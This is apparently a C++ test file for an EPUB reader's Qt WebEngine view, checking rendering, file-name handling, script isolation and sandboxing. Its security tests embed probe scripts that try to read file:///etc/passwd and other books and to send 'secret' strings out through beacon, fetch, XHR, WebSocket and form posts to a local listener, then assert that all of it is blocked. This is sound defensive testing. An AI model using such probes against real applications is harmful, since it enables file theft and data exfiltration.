// Book pages in a real QWebEngineView, served through the epub:// handler.
#include "core/content/BookUrl.h"
#include "support/Samples.h"
#include "support/ZipWriter.h"
#include "ui/reader/BookWebProfile.h"
#include "ui/reader/PageScripts.h"

#include <QBuffer>
#include <QCoreApplication>
#include <QEventLoop>
#include <QImage>
#include <QJsonDocument>
#include <QTcpServer>
#include <QTcpSocket>
#include <QTimer>
#include <QWebEnginePage>
#include <QWebEngineView>
#include <gtest/gtest.h>

namespace
{

constexpr int kTimeoutMs = 30000;

class EpubWebViewTest : public ::testing::Test
{
protected:
    void SetUp() override
    {
        // One book profile for the whole run, as the application has.
        static QWebEngineProfile *const profile = BookWebProfile::create(QCoreApplication::instance());
        m_page = new QWebEnginePage(profile, &m_view);
        m_view.setPage(m_page);
        m_view.resize(800, 600);
        m_view.show();
    }

    // Loads `url` and waits; whether the load succeeded.
    bool load(const QUrl &url)
    {
        QEventLoop loop;
        bool ok = false;
        bool finished = false;
        auto c = QObject::connect(m_page, &QWebEnginePage::loadFinished, &loop, [&](bool success) {
            ok = success;
            finished = true;
            loop.quit();
        });
        QTimer::singleShot(kTimeoutMs, &loop, &QEventLoop::quit);
        m_page->load(url);
        loop.exec();
        QObject::disconnect(c);
        return finished && ok;
    }

    // Evaluates `script` in the page's own world, or in `world`.
    QVariant js(const QString &script, quint32 world = 0)
    {
        QEventLoop loop;
        QVariant result;
        m_page->runJavaScript(script, world, [&](const QVariant &v) {
            result = v;
            loop.quit();
        });
        QTimer::singleShot(kTimeoutMs, &loop, &QEventLoop::quit);
        loop.exec();
        return result;
    }

    // Evaluates `condition` until it is true or the time-out passes.
    bool waitFor(const QString &condition)
    {
        for (int waited = 0; waited < kTimeoutMs; waited += 100) {
            if (js(condition).toBool())
                return true;
            QEventLoop loop;
            QTimer::singleShot(100, &loop, &QEventLoop::quit);
            loop.exec();
        }
        return false;
    }

    QWebEngineView m_view;
    QWebEnginePage *m_page = nullptr;
};

TEST_F(EpubWebViewTest, ChapterRendersWithItsStyleSheetAndImage)
{
    installSampleBook(QStringLiteral("anatomy-basics.epub"));
    ASSERT_TRUE(load(BookUrl::entryUrl(
        QStringLiteral("anatomy-basics.epub"), QStringLiteral("OEBPS/text/chapter01.xhtml"))));
    EXPECT_EQ(js(QStringLiteral("document.querySelector('h1').textContent")).toString(),
        QStringLiteral("Anatomy of the Heart"));
    EXPECT_EQ(js(QStringLiteral("getComputedStyle(document.querySelector('h1')).color")).toString(),
        QStringLiteral("rgb(20, 60, 120)"))
        << "the book's style sheet is applied";
    ASSERT_TRUE(waitFor(QStringLiteral("document.querySelector('img.figure').complete")));
    EXPECT_EQ(js(QStringLiteral("document.querySelector('img.figure').naturalWidth")).toInt(), 160)
        << "the image with a space in its name is served";

    QEventLoop settle;
    QTimer::singleShot(300, &settle, &QEventLoop::quit);
    settle.exec();
    const QImage shot = m_view.grab().toImage();
    EXPECT_FALSE(shot.isNull());
    shot.save(QStringLiteral(TAVRO_ARTIFACTS_DIR "/epub-chapter.png"));
}

TEST_F(EpubWebViewTest, FileNamesComeBackExactlyThroughTheWebView)
{
    const QString names[] = {
        QStringLiteral("Emergency Medicine Handbook.epub"),
        QStringLiteral("UPPER lower.EPUB"),
        QStringLiteral("100% #1 ?.epub"),
        QStringLiteral("臨床 薬理学ノート.epub"),
        QString(80, QChar(0x85AC)) + QStringLiteral(".epub"),
    };
    for (const QString &name : names) {
        installSampleBook(QStringLiteral("anatomy-basics.epub"), name);
        ASSERT_TRUE(load(BookUrl::entryUrl(name, QStringLiteral("OEBPS/text/chapter02.xhtml"))))
            << name.toStdString();
        const QUrl location(js(QStringLiteral("location.href")).toString());
        const auto target = BookUrl::parse(location);
        ASSERT_TRUE(target.has_value()) << location.toString().toStdString();
        EXPECT_EQ(target->fileName, name);
        EXPECT_EQ(target->path, QStringLiteral("/OEBPS/text/chapter02.xhtml"));
        EXPECT_EQ(js(QStringLiteral("document.querySelector('h1').textContent")).toString(),
            QStringLiteral("Cardiac Cycle"));
    }
}

TEST_F(EpubWebViewTest, MissingEntryFailsTheLoad)
{
    installSampleBook(QStringLiteral("anatomy-basics.epub"));
    EXPECT_FALSE(
        load(BookUrl::entryUrl(QStringLiteral("anatomy-basics.epub"), QStringLiteral("OEBPS/none.xhtml"))));
    EXPECT_FALSE(
        load(BookUrl::entryUrl(QStringLiteral("no-such-book.epub"), QStringLiteral("OEBPS/a.xhtml"))));
}

TEST_F(EpubWebViewTest, BookPagesCannotReadFilesOrOtherBooks)
{
    installSampleBook(QStringLiteral("anatomy-basics.epub"));
    const QString other
        = BookUrl::entryUrl(QStringLiteral("anatomy-basics.epub"), QStringLiteral("OEBPS/toc.ncx"))
              .toString();
    const QByteArray page
        = "<!DOCTYPE html><html><head><title>probe</title><script>\n"
          "var results = {}; var pending = 2;\n"
          "function viaXhr(url) { try { var x = new XMLHttpRequest(); x.open('GET', url, false); x.send();"
          "  return 'status ' + x.status + ' length ' + x.responseText.length; } catch (e) { return "
          "'blocked'; } }\n"
          "function viaFetch(key, url) { fetch(url).then(function (r) { return r.text(); })"
          "  .then(function (t) { results[key] = 'length ' + t.length; })"
          "  .catch(function () { results[key] = 'blocked'; }).finally(function () { pending--; }); }\n"
          "results.ownXhr = viaXhr('own.txt');\n"
          "results.fileXhr = viaXhr('file:///etc/passwd');\n"
          "results.otherBookXhr = viaXhr('"
        + other.toUtf8()
        + "');\n"
          "viaFetch('fileFetch', 'file:///etc/passwd');\n"
          "viaFetch('otherBookFetch', '"
        + other.toUtf8()
        + "');\n"
          "</script></head><body>probe</body></html>";
    DataFolder::createContentsFolder();
    ASSERT_TRUE(writeZip(DataFolder::contentsFolder() + QStringLiteral("/probe.epub"),
        { { "page.html", page }, { "own.txt", "own entry" } }));

    ASSERT_TRUE(load(BookUrl::entryUrl(QStringLiteral("probe.epub"), QStringLiteral("page.html"))));
    ASSERT_TRUE(waitFor(QStringLiteral("pending === 0")));
    const QVariantMap results = js(QStringLiteral("results")).toMap();
    const QString summary
        = QString::fromUtf8(QJsonDocument::fromVariant(results).toJson(QJsonDocument::Compact));
    EXPECT_EQ(results.value(QStringLiteral("ownXhr")).toString(), QStringLiteral("status 200 length 9"))
        << "the probe can read its own book";
    for (const char *key : { "fileXhr", "otherBookXhr", "fileFetch", "otherBookFetch" }) {
        const QString r = results.value(QLatin1String(key)).toString();
        EXPECT_FALSE(r.isEmpty()) << key;
        EXPECT_FALSE(r.contains(QRegularExpression(QStringLiteral("length [1-9]"))))
            << key << " got content: " << summary.toStdString();
    }
}

} // namespace

namespace
{

QVariantMap jsonObject(const QVariant &text)
{
    return QJsonDocument::fromJson(text.toString().toUtf8()).toVariant().toMap();
}

} // namespace

TEST_F(EpubWebViewTest, PageScriptsLiveInTheirOwnWorldAndKeepTheirNumbering)
{
    // A book whose own scripts look for the reader's functions and try to
    // replace one.
    const QByteArray page = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<html "
                            "xmlns=\"http://www.w3.org/1999/xhtml\"><head><title>t</title>"
                            "<script>window.setHighlight = function () { return 'hijacked'; };"
                            "window.addEventListener('load', function () { window.bookSaw = typeof "
                            "getSelectionStartQmNodeInfo; });</script>"
                            "</head><body><script>var notText = 1;</script><p id=\"a\">Alpha beta "
                            "gamma</p>\n<p id=\"b\">Delta <i>epsilon</i> zeta</p></body></html>";
    const QByteArray opf
        = "<?xml version=\"1.0\"?><package xmlns=\"http://www.idpf.org/2007/opf\" version=\"2.0\"><metadata/>"
          "<manifest><item id=\"p\" href=\"p.xhtml\" media-type=\"application/xhtml+xml\"/></manifest>"
          "<spine><itemref idref=\"p\"/></spine></package>";
    DataFolder::createContentsFolder();
    ASSERT_TRUE(writeEpub(DataFolder::contentsFolder() + QStringLiteral("/scripted.epub"),
        QStringLiteral("OEBPS/content.opf"), { { "OEBPS/content.opf", opf }, { "OEBPS/p.xhtml", page } }));
    PageScripts::install(m_page);
    ASSERT_TRUE(load(BookUrl::entryUrl(QStringLiteral("scripted.epub"), QStringLiteral("OEBPS/p.xhtml"))));
    const quint32 ours = PageScripts::kWorld;

    EXPECT_EQ(js(QStringLiteral("bookSaw")).toString(), QStringLiteral("undefined"))
        << "the book cannot see them";
    EXPECT_EQ(js(QStringLiteral("typeof setHighlight"), ours).toString(), QStringLiteral("function"));
    bool verified = false;
    PageScripts::verify(m_page, [&](bool ok) { verified = ok; });
    ASSERT_TRUE(waitFor(QStringLiteral("true")) && verified);

    // Selections are numbered per text node: "beta gamma" is node 1, 6..16.
    auto select = [&](const QString &startNode, int start, const QString &endNode, int end) {
        js(QStringLiteral(
            "(function () { var r = document.createRange(); r.setStart(%1, %2); r.setEnd(%3, %4);"
            "var s = window.getSelection(); s.removeAllRanges(); s.addRange(r); })()")
                .arg(startNode)
                .arg(start)
                .arg(endNode)
                .arg(end));
    };
    const QString alpha = QStringLiteral("document.getElementById('a').firstChild");
    select(alpha, 6, alpha, 16);
    QVariantMap start = jsonObject(js(QStringLiteral("getSelectionStartQmNodeInfo()"), ours));
    QVariantMap end = jsonObject(js(QStringLiteral("getSelectionEndQmNodeInfo()"), ours));
    EXPECT_EQ(start.value(QStringLiteral("startQmNodeNo")).toInt(), 1);
    EXPECT_EQ(start.value(QStringLiteral("startQmNodeOffset")).toInt(), 6);
    EXPECT_EQ(end.value(QStringLiteral("endQmNodeNo")).toInt(), 1);
    EXPECT_EQ(end.value(QStringLiteral("endQmNodeOffset")).toInt(), 16);
    js(QStringLiteral("window.getSelection().removeAllRanges()"));
    EXPECT_EQ(js(QStringLiteral("getSelectionStartQmNodeInfo()"), ours).toString(), QStringLiteral("false"));

    // A highlight from "beta" to "eps" of "epsilon" (node 3) spans three nodes.
    const QString before = js(QStringLiteral("document.body.textContent")).toString();
    EXPECT_EQ(js(QStringLiteral("setHighlight('3_dev','highlight_color1',1,6,3,3,{})"), ours).toString(),
        QStringLiteral("true"));
    EXPECT_EQ(
        js(QStringLiteral(
               "Array.from(document.querySelectorAll('span.qmHighlight')).map(s => s.textContent).join('|')"))
            .toString(),
        QStringLiteral("beta gamma|Delta |eps"));
    EXPECT_EQ(js(QStringLiteral("document.body.textContent")).toString(), before);

    // Split nodes keep their numbers and offsets: "ilon" is still node 3
    // from offset 3, " zeta" still node 4.
    const QString ilon = QStringLiteral("document.querySelector('i').lastChild");
    select(ilon, 1, ilon, 4);
    start = jsonObject(js(QStringLiteral("getSelectionStartQmNodeInfo()"), ours));
    EXPECT_EQ(start.value(QStringLiteral("startQmNodeNo")).toInt(), 3);
    EXPECT_EQ(start.value(QStringLiteral("startQmNodeOffset")).toInt(), 4);
    EXPECT_EQ(js(QStringLiteral("highlightSearchTerm('ET')"), ours).toString(), QStringLiteral("2"))
        << "b-et-a, z-et-a";
    EXPECT_EQ(js(QStringLiteral("clearSearchHighlight()"), ours).toString(), QStringLiteral("2"));
    const QString zeta = QStringLiteral("document.querySelector('i').nextSibling"); // " z" of " zeta" now
    select(zeta, 1, zeta, 2);
    start = jsonObject(js(QStringLiteral("getSelectionStartQmNodeInfo()"), ours));
    EXPECT_EQ(start.value(QStringLiteral("startQmNodeNo")).toInt(), 4);
    EXPECT_EQ(start.value(QStringLiteral("startQmNodeOffset")).toInt(), 1);

    // The highlight under a selection, and removing it.
    const QString marked = QStringLiteral("document.querySelector('span.qmHighlight').firstChild");
    select(marked, 0, marked, 1);
    EXPECT_EQ(js(QStringLiteral("isSellectionHighlighMemoed()"), ours).toString(), QStringLiteral("3_dev"));
    EXPECT_EQ(
        js(QStringLiteral(
               "setHighlight(5,'memo_color1',4,1,4,5,{memodate:'2026/01/01 10:00:00',memotext:'note'})"),
            ours)
            .toString(),
        QStringLiteral("true"));
    EXPECT_EQ(js(QStringLiteral("removeOldQmNodeNoMemoSpan([3]);"), ours).toString(), QStringLiteral("1"));
    EXPECT_EQ(
        js(QStringLiteral(
               "Array.from(document.querySelectorAll('span.qmHighlight')).map(s => s.dataset.qmId).join()"))
            .toString(),
        QStringLiteral("5,5,5"))
        << "only 5 is left, over the three pieces the search marks made of \" zeta\"";
    EXPECT_EQ(js(QStringLiteral("document.querySelector('span.qmHighlight').title")).toString(),
        QStringLiteral("2026/01/01 10:00:00\nnote"));
    EXPECT_EQ(js(QStringLiteral("removeHighlight('5')"), ours).toString(), QStringLiteral("3"));
    EXPECT_EQ(js(QStringLiteral("document.body.textContent")).toString(), before);
    EXPECT_EQ(js(QStringLiteral("setHighlight('9_x','highlight_color1',40,0,41,2,{})"), ours).toString(),
        QStringLiteral("false"))
        << "positions beyond the page draw nothing";
}

namespace
{

// A loopback listener that counts every connection and answers any request
// with a short HTTP reply, so a request that gets out ends quickly instead
// of hanging the page's callbacks.
class LoopbackSink : public QObject
{
public:
    LoopbackSink()
    {
        m_server.listen(QHostAddress::LocalHost, 0);
        QObject::connect(&m_server, &QTcpServer::newConnection, this, [this] {
            while (QTcpSocket *socket = m_server.nextPendingConnection()) {
                ++connections;
                QObject::connect(socket, &QTcpSocket::readyRead, socket, [this, socket] {
                    received += socket->readAll();
                    socket->write("HTTP/1.1 200 OK\r\nContent-Length: 2\r\nAccess-Control-Allow-Origin: *\r\n"
                                  "Connection: close\r\n\r\nok");
                    socket->disconnectFromHost();
                });
                QObject::connect(socket, &QTcpSocket::disconnected, socket, &QObject::deleteLater);
            }
        });
    }
    quint16 port() const { return m_server.serverPort(); }

    int connections = 0;
    QByteArray received;

private:
    QTcpServer m_server;
};

QByteArray pngBytes(int width)
{
    QImage image(width, 8, QImage::Format_RGB32);
    image.fill(Qt::darkRed);
    QByteArray bytes;
    QBuffer buffer(&bytes);
    buffer.open(QIODevice::WriteOnly);
    image.save(&buffer, "PNG");
    return bytes;
}

} // namespace

// A book's script tries every way out: to the network and into another
// book's pictures. Nothing may reach the listener, and only the book's own
// picture may be read back from a canvas.
TEST_F(EpubWebViewTest, BookScriptsReachNeitherTheNetworkNorOtherBooks)
{
    installSampleBook(QStringLiteral("anatomy-basics.epub"));
    LoopbackSink sink;
    ASSERT_NE(sink.port(), 0);
    const QByteArray web = "http://127.0.0.1:" + QByteArray::number(sink.port());
    const QByteArray otherPicture
        = BookUrl::entryUrl(QStringLiteral("anatomy-basics.epub"), QStringLiteral("OEBPS/images/cover.png"))
              .toEncoded();
    // Runs as soon as the parser meets it, before any later markup; the
    // results go into window.probe, pending counts the channels not yet
    // settled, policyRefusals the content security policy's refusals. HTML
    // elements are made with their namespace, so the same script runs in a
    // drawing (SVG) page, which has no place to submit a form from.
    const QByteArray script = "//<![CDATA[\n"
                              "var probe = {}; var policyRefusals = []; var WEB = '"
        + web + "'; var OTHER = '" + otherPicture
        + "';\n"
          "var XHTML = 'http://www.w3.org/1999/xhtml'; var withForm = !(document instanceof XMLDocument)"
          "  || document.documentElement.namespaceURI === XHTML;\n"
          "var pending = withForm ? 7 : 6;\n"
          "document.addEventListener('securitypolicyviolation', function (e) {"
          "  policyRefusals.push(e.violatedDirective);"
          "  if (e.violatedDirective === 'form-action') settle('form', 'refused'); });\n"
          "function make(name) { return document.createElementNS(XHTML, name); }\n"
          "function settle(key, value) { if (!(key in probe)) { probe[key] = value; pending--; } }\n"
          "try { probe.beacon = String(navigator.sendBeacon(WEB + '/beacon', 'secret-beacon')); }"
          " catch (e) { probe.beacon = 'threw'; }\n"
          "fetch(WEB + '/fetch', { method: 'POST', body: 'secret-fetch', mode: 'no-cors' })"
          "  .then(function () { settle('fetch', 'sent'); }, function () { settle('fetch', 'blocked'); });\n"
          "try { var x = new XMLHttpRequest(); x.open('POST', WEB + '/xhr');"
          "  x.onload = function () { settle('xhr', 'sent'); };"
          "  x.onerror = function () { settle('xhr', 'blocked'); }; x.send('secret-xhr'); }"
          " catch (e) { settle('xhr', 'threw'); }\n"
          "try { var ws = new WebSocket(WEB.replace('http', 'ws') + '/ws');"
          "  ws.onopen = function () { settle('socket', 'open'); };"
          "  ws.onerror = function () { settle('socket', 'blocked'); }; }"
          " catch (e) { settle('socket', 'threw'); }\n"
          "function readBack(key, url) { var img = new Image();"
          "  img.onload = function () { try { var c = make('canvas');"
          "    c.width = img.naturalWidth; c.height = img.naturalHeight;"
          "    c.getContext('2d').drawImage(img, 0, 0);"
          "    settle(key, 'read ' + c.toDataURL('image/png').length); }"
          "    catch (e) { settle(key, 'tainted'); } };"
          "  img.onerror = function () { settle(key, 'not loaded'); }; img.src = url; }\n"
          "readBack('ownPicture', 'own.png'); readBack('otherPicture', OTHER);\n"
          "readBack('webPicture', WEB + '/picture.png');\n"
          "if (withForm) window.addEventListener('load', function () {"
          "  var frame = make('iframe'); frame.name = 'sink';"
          "  document.body.appendChild(frame);"
          "  frame.onload = function () { settle('form', 'frame loaded'); };"
          "  var form = make('form'); form.method = 'post'; form.target = 'sink';"
          "  form.action = WEB + '/form'; var field = make('input');"
          "  field.name = 'secret'; field.value = 'secret-form'; form.appendChild(field);"
          "  document.body.appendChild(form);"
          "  try { form.submit(); } catch (e) { settle('form', 'threw'); } });\n"
          "//]]>";
    // The HTML page opens with an empty comment the way the HTML parser reads
    // it ("<!-->"), so its script comes before anything else of the page.
    const QByteArray html = "<!DOCTYPE html><!--><script>" + script + "</script><title>p</title><p>probe</p>";
    const QByteArray xhtml = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<!DOCTYPE html>\n"
                             "<html xmlns=\"http://www.w3.org/1999/xhtml\"><head><script>"
        + script + "</script><title>p</title></head><body><p>probe</p></body></html>";
    // A drawing gets no policy of its own: only the request filter and the
    // handler stand between its script and the listener.
    const QByteArray svg = "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"10\" height=\"10\"><script>"
        + script + "</script></svg>";
    DataFolder::createContentsFolder();
    ASSERT_TRUE(writeZip(DataFolder::contentsFolder() + QStringLiteral("/exfiltrate.epub"),
        { { "probe.html", html }, { "probe.xhtml", xhtml }, { "probe.svg", svg },
            { "own.png", pngBytes(12) } }));

    struct Case {
        const char *entry;
        bool policy; // the page carries the content security policy
    };
    for (const Case &c :
        { Case { "probe.html", true }, Case { "probe.xhtml", true }, Case { "probe.svg", false } }) {
        SCOPED_TRACE(c.entry);
        ASSERT_TRUE(load(BookUrl::entryUrl(QStringLiteral("exfiltrate.epub"), QLatin1String(c.entry))));
        ASSERT_TRUE(waitFor(QStringLiteral("typeof pending !== 'undefined' && pending === 0")))
            << QJsonDocument::fromVariant(js(QStringLiteral("probe")))
                   .toJson(QJsonDocument::Compact)
                   .toStdString();
        const QVariantMap probe = js(QStringLiteral("probe")).toMap();
        const QStringList refusals = js(QStringLiteral("policyRefusals")).toStringList();
        const std::string summary
            = QJsonDocument::fromVariant(probe).toJson(QJsonDocument::Compact).toStdString()
            + " policy refusals: " + refusals.join(u' ').toStdString();
        EXPECT_TRUE(probe.value(QStringLiteral("ownPicture")).toString().startsWith(QLatin1String("read ")))
            << "the book's own picture stays readable: " << summary;
        EXPECT_NE(probe.value(QStringLiteral("otherPicture")).toString().left(5), QStringLiteral("read "))
            << "another book's picture cannot be read back: " << summary;
        EXPECT_EQ(refusals.contains(QStringLiteral("connect-src")), c.policy) << summary;
        EXPECT_EQ(sink.connections, 0) << summary << "\nreceived: " << sink.received.toStdString();
    }
    EXPECT_EQ(sink.connections, 0) << sink.received.toStdString();
}
